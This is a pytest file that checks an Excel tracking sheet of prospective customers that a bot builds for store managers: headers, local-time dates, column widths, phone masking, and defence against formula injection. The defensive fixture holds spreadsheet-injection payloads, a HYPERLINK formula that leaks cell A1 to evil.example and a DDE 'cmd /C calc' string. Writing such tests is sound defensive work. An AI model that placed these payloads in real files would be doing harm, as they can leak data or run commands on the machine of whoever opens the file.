"""《意向客户跟踪表》: the .xlsx managers get with the daily summary, read back with openpyxl."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from bot.digests.tracking_sheet import DATE_FORMAT, tracking_workbook
from domain.digest import TrackingRow
from domain.lifecycle import Deadline, DeadlineKind
from domain.model import ExpectedPurchase, State
from domain.rules import Rules

ZONE = Rules().zone
NOW = datetime(2026, 11, 10, 12, 30, tzinfo=UTC)  # 20:30 in Shanghai
DAY = date(2026, 11, 10)
ZH = [
    "客户姓名",
    "电话",
    "地址",
    "需求",
    "预计采购时间",
    "报备人",
    "报备时间",
    "最近跟进",
    "状态",
    "下一截止",
    "截止时间",
]
EN = [
    "Customer",
    "Phone",
    "Address",
    "Needs",
    "Expected purchase",
    "Registered by",
    "Filed at",
    "Last follow-up",
    "State",
    "Next deadline",
    "Deadline at",
]


def rows() -> list[TrackingRow]:
    return [
        TrackingRow(
            registration_id=1,
            customer_name="张三",
            phone="+8613800138000",
            address="北京市朝阳区建国路88号3栋1201",
            needs="1.8米床垫和床头柜",
            expected_purchase=ExpectedPurchase.WITHIN_MONTH,
            holder="王芳",
            filed_at=datetime(2026, 11, 9, 16, 5, 7, 123456, tzinfo=UTC),  # 00:05:07 on 10 Nov in Shanghai
            last_follow_up_at=datetime(2026, 11, 10, 3, 0, tzinfo=UTC),
            state=State.ACTIVE,
            challenging=False,
            deadline=Deadline(DeadlineKind.FOLLOW_UP, datetime(2026, 11, 13, 3, 0, tzinfo=UTC)),
        ),
        TrackingRow(
            registration_id=2,
            customer_name="李四",
            phone="+861012345678",
            address="北京市海淀区中关村大街1号",
            needs=None,
            expected_purchase=None,
            holder="刘洋",
            filed_at=NOW - timedelta(days=12),
            last_follow_up_at=None,
            state=State.LAPSED,
            challenging=False,
            deadline=None,
        ),
        TrackingRow(
            registration_id=3,
            customer_name="王五",
            phone="+8613900139000",
            address="北京市朝阳区光华路1号院",
            needs=None,
            expected_purchase=ExpectedPurchase.UNKNOWN,
            holder="陈静",
            filed_at=NOW - timedelta(hours=2),
            last_follow_up_at=None,
            state=State.PENDING_REVIEW,
            challenging=True,
            deadline=Deadline(DeadlineKind.EXPIRY, NOW + timedelta(days=15)),
        ),
    ]


def open_sheet(data: bytes):
    workbook = load_workbook(BytesIO(data))
    assert len(workbook.worksheets) == 1
    return workbook, workbook.worksheets[0]


@pytest.mark.parametrize(
    ("language", "title", "headers"), [("zh", "意向客户跟踪表", ZH), ("en", "Intent customers", EN)]
)
def test_sheet_title_and_bold_headers_in_the_teams_language(
    language: str, title: str, headers: list[str]
) -> None:
    workbook, sheet = open_sheet(tracking_workbook(rows(), language, ZONE, "朝阳店", DAY))
    assert sheet.title == title
    assert [c.value for c in sheet[1]] == headers
    assert all(c.font.bold for c in sheet[1])
    assert "朝阳店" in workbook.properties.title and "2026-11-10" in workbook.properties.title


def test_one_row_per_open_registration_with_full_details_for_managers() -> None:
    _, sheet = open_sheet(tracking_workbook(rows(), "zh", ZONE, "朝阳店", DAY))
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [
        [
            "张三",
            "138 0013 8000",
            "北京市朝阳区建国路88号3栋1201",
            "1.8米床垫和床头柜",
            "一个月内",
            "王芳",
            datetime(2026, 11, 10, 0, 5, 7),
            datetime(2026, 11, 10, 11, 0),
            "跟进中",
            "跟进",
            datetime(2026, 11, 13, 11, 0),
        ],
        [
            "李四",
            "010 1234 5678",
            "北京市海淀区中关村大街1号",
            None,
            None,
            "刘洋",
            datetime(2026, 10, 29, 20, 30),
            None,
            "已超期未跟进",
            None,
            None,
        ],
        [
            "王五",
            "139 0013 9000",
            "北京市朝阳区光华路1号院",
            None,
            "不确定",
            "陈静",
            datetime(2026, 11, 10, 18, 30),
            None,
            "待审核（接手申请）",
            "量尺或下定，否则失效",
            datetime(2026, 11, 25, 20, 30),
        ],
    ]


def test_english_words_in_cells() -> None:
    _, sheet = open_sheet(tracking_workbook(rows(), "en", ZONE, "朝阳店", DAY))
    assert [sheet.cell(r, 9).value for r in (2, 3, 4)] == [
        "active",
        "lapsed",
        "pending review (takeover challenge)",
    ]
    assert sheet.cell(2, 5).value == "Within a month" and sheet.cell(2, 10).value == "follow up"


def test_dates_are_excel_datetimes_in_local_time() -> None:
    _, sheet = open_sheet(tracking_workbook(rows(), "zh", ZONE, "朝阳店", DAY))
    for column in ("G", "H", "K"):
        cell = sheet[f"{column}2"]
        assert cell.is_date and isinstance(cell.value, datetime) and cell.value.tzinfo is None
        assert cell.number_format == DATE_FORMAT
    assert sheet["G2"].value == datetime(2026, 11, 10, 0, 5, 7)  # local, although 9 Nov in UTC


def test_frozen_header_autofilter_and_column_widths() -> None:
    _, sheet = open_sheet(tracking_workbook(rows(), "zh", ZONE, "朝阳店", DAY))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K4"
    widths = {column: sheet.column_dimensions[column].width for column in "ABCDEFGHIJK"}
    assert all(8 <= width <= 60 for width in widths.values())
    assert widths["C"] > widths["A"]  # the address is the widest text
    assert widths["C"] >= 2 * len("北京市朝阳区建国路88号3栋1201") - 10  # Chinese characters count double
    assert widths["G"] >= len("2026-11-10 00:05")


def test_an_empty_team_still_gets_a_sheet_with_headers() -> None:
    _, sheet = open_sheet(tracking_workbook([], "zh", ZONE, "朝阳店", DAY))
    assert sheet.max_row == 1 and sheet.auto_filter.ref == "A1:K1" and sheet.freeze_panes == "A2"


# --- issue 10 item 4: no cell is ever a formula ----------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def typed_by_people(start: str) -> TrackingRow:
    """A registration whose every typed field starts with `start`, as if someone meant harm."""
    return TrackingRow(
        registration_id=9,
        customer_name=f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")',
        phone="+14155552671",  # a foreign number: shown as +1 415-555-2671
        address=f"{start}cmd|' /C calc'!A0 北京市朝阳区建国路88号",
        needs=f"{start}1+1 要1.8米床垫",
        expected_purchase=None,
        holder=f"{start}SUM(A1:A9)",
        filed_at=NOW - timedelta(hours=1),
        last_follow_up_at=None,
        state=State.ACTIVE,
        challenging=False,
        deadline=None,
    )


def sheet_xml(data: bytes) -> str:
    with ZipFile(BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("mask_phones", [False, True], ids=["full", "masked"])
def test_text_that_starts_like_a_formula_is_written_as_text(start: str, mask_phones: bool) -> None:
    data = tracking_workbook(
        [typed_by_people(start), *rows()], "zh", ZONE, "朝阳店", DAY, mask_phones=mask_phones
    )
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    workbook = load_workbook(BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(tuple(FORMULA_STARTS)):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)  # stays text when edited
    _, sheet = open_sheet(data)
    typed = typed_by_people(start)
    row = [cell.value for cell in sheet[2]]
    assert (
        row[0] == typed.customer_name and row[3] == typed.needs and row[5] == typed.holder
    )  # shown as typed
    assert row[1] == ("+1 415-555-2671" if not mask_phones else "415****2671")
    assert row[2] == (None if mask_phones else typed.address)


def test_a_cell_from_elsewhere_that_would_be_a_formula_is_text_too() -> None:
    # The one writer every workbook uses also takes ready-made cells (dates, headers).
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    from bot.digests.xlsx import append_row

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    append_row(sheet, [WriteOnlyCell(sheet, value="=1+1"), "=2+2", "-3", 4, None, "plain"])
    out = BytesIO()
    workbook.save(out)
    assert "<f>" not in sheet_xml(out.getvalue())
    values = [(cell.value, cell.data_type) for cell in load_workbook(BytesIO(out.getvalue())).active[1]]
    assert values == [("=1+1", "s"), ("=2+2", "s"), ("-3", "s"), (4, "n"), (None, "n"), ("plain", "s")]


def test_a_control_character_a_workbook_cannot_hold_does_not_fail_the_workbook() -> None:
    row = replace(rows()[0], needs="床垫\x01\x1b要大号", holder="王芳\x00")
    _, sheet = open_sheet(tracking_workbook([row], "zh", ZONE, "朝阳店", DAY))
    assert sheet["D2"].value == "床垫要大号" and sheet["F2"].value == "王芳"
